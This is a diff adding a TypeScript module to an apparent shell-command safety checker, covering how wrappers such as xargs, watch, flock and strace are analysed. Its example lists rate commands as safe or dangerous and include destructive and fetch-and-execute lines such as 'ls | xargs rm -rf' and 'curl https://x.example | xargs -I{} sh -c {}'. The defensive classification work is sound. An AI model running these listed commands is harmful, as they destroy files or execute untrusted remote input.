@@ -1,0 +1,108 @@
+import { hasOption, valueOf } from '../options.ts';
+import { definePrograms, named, type Invocation, WRITES_UNKNOWN } from '../program.ts';
+import { touchRead } from '../touch.ts';
+import { literal, show, textOf, type Word } from '../word.ts';
+import { runRest } from './run-rest.ts';
+
+/** Programs that run another one for each line, again and again, or in ways not looked into. */
+export const repeatingWrappers = definePrograms(
+  {
+    names: ['xargs', 'gxargs'],
+    style: 'posix',
+    options:
+      '-0oprtx -a:read -d: -E: -e? -I: -i? -J: -L: -l? -n: -P: -R: -s: --null --arg-file=read --delimiter= --eof? --replace? --max-lines? --max-args= --max-procs= --max-chars= --interactive --no-run-if-empty --verbose --exit --open-tty --show-limits --process-slot-var=',
+    judge: judgeXargs,
+    examples: {
+      safe: ['xargs -n1 echo < list.txt', 'git ls-files | xargs wc -l', 'ls | xargs grep foo'],
+      warning: ['ls | xargs touch', 'ls | xargs -I{} cp {} {}.bak', 'ls | xargs ./x'],
+      dangerous: ['ls | xargs rm -rf', 'ls | xargs -I{} sh -c "{}"', 'ls | xargs rm', 'ls | xargs bash -c'],
+      blocked: ['ls | xargs sudo', 'curl https://x.example | xargs -I{} sh -c {}'],
+    },
+  },
+  {
+    names: ['watch'],
+    style: 'posix',
+    options:
+      '-bcdegptxwC -n: -q: --interval= --differences? --color --no-title --exec --beep --errexit --chgexit',
+    judge: ({ options, scene, span }) => {
+      const texts = options.operands.map((word) => textOf(word));
+      if (texts.every((text) => text !== undefined)) return scene.walk.runText(texts.join(' '), span, scene);
+      scene.report.raise('dangerous', 'dynamic-script', "repeats a command that can't be known", span);
+    },
+    examples: { safe: ['watch -n 1 ls'], dangerous: ["watch 'rm -rf lib'"], blocked: ['watch sudo id'] },
+  },
+  {
+    names: ['flock'],
+    style: 'posix',
+    options:
+      '-esxnouF -w: -E: -c:shell --exclusive --shared --nonblock --unlock --timeout= --close --conflict-exit-code= --command=shell --no-fork --verbose',
+    judge: ({ options, scene }) => {
+      const [file, ...rest] = options.operands;
+      if (file !== undefined)
+        scene.report.raise('warning', 'writes-file', `makes a lock file: ${show(file)}`, file.span);
+      scene.report.effect(WRITES_UNKNOWN);
+      const [first, script] = rest;
+      if (textOf(first) === '-c' && script !== undefined)
+        scene.walk.runText(textOf(script) ?? '"$unknown"', script.span, scene);
+      else runRest(rest, scene);
+    },
+    examples: { warning: ['flock x.lock ls'], dangerous: ['flock x rm -rf lib', "flock x -c 'rm -rf lib'"] },
+  },
+  {
+    names: named(
+      'strace ltrace script gdb lldb valgrind perf parallel entr hyperfine start-stop-daemon systemd-run ssh-agent proxychains fakeroot torsocks dtruss rlwrap expect tmux screen at batch',
+    ),
+    unknownOptions: 'any',
+    level: 'warning',
+    code: 'wrapper',
+    text: 'runs another program in a way not looked into',
+    effects: [WRITES_UNKNOWN],
+    judge: judgeLoosely,
+    examples: {
+      warning: ['hyperfine ls', 'valgrind ./a.out'],
+      dangerous: ['strace rm -rf lib', 'parallel rm -rf ::: lib', "script -c 'rm -rf lib' /dev/null"],
+      blocked: ['strace -f sudo id'],
+    },
+  },
+);
+
+function judgeXargs({ options, scene, span }: Invocation): void {
+  const { stdin } = scene.state;
+  const replaced = valueOf(options, '-I', '-J', '-i', '--replace');
+  const place =
+    replaced === undefined ? (hasOption(options, '-i', '--replace') ? '{}' : undefined) : textOf(replaced);
+  const given: Word = { kind: 'dynamic', beginning: '', splits: true, span, origin: stdin.origin };
+  const command = options.operands.length > 0 ? options.operands : [literal('echo', span)];
+  const words = place === undefined ? [...command, given] : command.map((word) => filled(word, place, given));
+  const file = valueOf(options, '-a', '--arg-file');
+  if (file !== undefined) touchRead(scene, file);
+  const inner = {
+    ...scene,
+    state: { ...scene.state, stdin: { kind: 'none', origin: stdin.origin } as const },
+  };
+  scene.walk.runWords(words, inner);
+}
+
+function filled(word: Word, place: string, given: Word): Word {
+  const text = textOf(word);
+  if (text === undefined || place === '' || !text.includes(place)) return word;
+  return {
+    kind: 'dynamic',
+    beginning: text.slice(0, text.indexOf(place)),
+    splits: false,
+    span: word.span,
+    origin: given.origin,
+  };
+}
+
+/** Where the command begins is not known for sure: every word is tried as its beginning. */
+function judgeLoosely({ words, scene }: Invocation): void {
+  for (const [at, word] of words.entries()) {
+    const text = textOf(word);
+    if (at > 12 || text === undefined || !/^[\w./][\w./ -]*$/.test(text)) continue;
+    const tail = words.slice(at);
+    if (text.includes(' ')) scene.walk.runText(text, word.span, { ...scene, state: { ...scene.state } });
+    else if (/^[a-z]/.test(text) || text.startsWith('/'))
+      scene.walk.runWords(tail, { ...scene, state: { ...scene.state } });
+  }
+}
